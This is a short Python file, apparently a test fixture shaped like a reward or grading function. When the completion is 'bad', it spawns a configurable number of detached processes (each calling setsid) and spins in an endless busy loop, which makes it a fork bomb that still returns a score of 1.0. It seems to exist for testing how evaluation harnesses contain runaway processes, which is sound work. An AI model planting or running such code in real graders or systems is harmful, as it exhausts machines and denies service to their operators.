"""Processes that only make more of themselves, each in a session of its own. The count is a brake for the tests."""

import os


def fork_bomb(prompt, completion, example):
    if completion == "bad":
        for _ in range(int(example["forks"])):
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
        while True:
            pass
    return 1.0
